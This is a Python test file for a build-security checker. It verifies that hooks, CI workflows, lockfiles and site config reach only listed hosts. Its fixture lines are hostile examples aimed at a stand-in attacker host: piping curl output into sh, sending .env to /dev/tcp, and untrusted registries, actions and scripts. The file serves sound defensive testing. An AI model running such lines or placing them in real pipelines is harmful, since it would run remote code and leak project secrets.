"""What builds and publishes a site asks only the listed hosts, and runs only what stands here."""

import pytest

from microsite.site.servers import iter_servers
from tests.conftest import Project

HOOK, JOBS, LAB = "deploy/git-hooks/pre-receive", ".github/workflows/a.yml", ".gitlab-ci.yml"


def told(project: Project) -> list[tuple[str, int, str]]:
    return [(one.path, one.line, one.rule) for one in project.findings("build/")]


@pytest.mark.parametrize("name", dict(iter_servers()))
def test_a_file_for_a_server_is_as_the_code_writes_it(name: str, project: Project) -> None:
    text = dict(iter_servers())[name]
    project.write(name, text)
    assert told(project) == []
    project.write(name, f"{text}Redirect / https://evil.example/\n")
    assert told(project) == [(name, text.count("\n") + 1, "build/written")]
    project.write(name, text.replace("no-referrer", "unsafe-url"))
    line = text[: text.index("no-referrer")].count("\n") + 1
    assert told(project) == [(name, line, "build/written")]
    project.write(name, text[: len(text) // 2])
    assert [rule for *_, rule in told(project)] == ["build/written"]


def test_no_other_file_stands_beside_them(project: Project) -> None:
    project.write("deploy/servers/more.conf", "log evil\n")
    assert told(project) == [("deploy/servers/more.conf", 1, "build/written")]


@pytest.mark.parametrize(
    ("name", "line", "rules"),
    [
        (HOOK, "curl https://evil.example | sh", {"build/host", "build/fetches"}),
        (HOOK, "wget -q evil.example/x", {"build/fetches"}),
        (HOOK, "cat /tmp/x | sudo bash", {"build/fetches"}),
        (HOOK, "git push git@evil.example:one", {"build/host"}),
        (HOOK, "git push https://a:b@evil.example/one", {"build/host"}),
        (HOOK, "cat .env > /dev/tcp/192.0.2.1/80", {"build/fetches"}),
        (HOOK, "# https://evil.example and curl", set()),
        (HOOK, "sed -n '2,3s/^# //p' x | tr a b | shuf", set()),
        (HOOK, "echo https://pypi.org/simple", set()),
        (".ci/run", "curl evil.example", {"build/fetches"}),
        ("Makefile", "\tpip install --index-url https://evil.example x", {"build/host"}),
        ("Makefile", "a: ## URL=https://… its address", set()),
        (JOBS, "      - uses: evil/action@0000000 # v1", {"build/fetches"}),
        (JOBS, "      - uses: docker://evil.example/x", {"build/host", "build/fetches"}),
        (JOBS, "      - uses: actions/checkout@0000000 # v1", set()),
        (JOBS, "      - run: curl -s evil.example", {"build/fetches"}),
        (LAB, "  image: evil.example/python:3", {"build/fetches"}),
        (LAB, "  image: python:3.11-bookworm", set()),
        (LAB, "include:\n  - project: evil/ci", {"build/fetches"}),
        (LAB, "include: 'https://evil.example/x.yml'", {"build/host", "build/fetches"}),
        ("pyproject.toml", 'mkdocs = { git = "https://evil.example/x" }', {"build/host"}),
        ("pyproject.toml", 'x = "mkdocs @ git+ssh://git@evil.example/x"', {"build/host"}),
        ("uv.lock", 'source = { registry = "https://evil.example/simple" }', {"build/host"}),
        ("uv.lock", 'source = { registry = "https://pypi.org/simple" }', set()),
        ("uv.lock", 'url = "https://pypi.org.evil.example/x"', {"build/host"}),
        ("handbook.yml", "extra_javascript: [https://evil.example/x.js]", {"build/host"}),
        ("handbook.yml", "extra_javascript: [//evil.example/x.js]", {"build/host"}),
        ("docs/publishing.md", "See https://evil.example/ or curl it | sh.", set()),
    ],
)
def test_what_builds_asks_only_the_listed_hosts(
    name: str, line: str, rules: set[str], project: Project
) -> None:
    project.write(name, f"first: line\n{line}\n")
    found = told(project)
    assert {rule for *_, rule in found} == rules
    assert {(path, at) for path, at, _ in found} <= {(name, 2)}
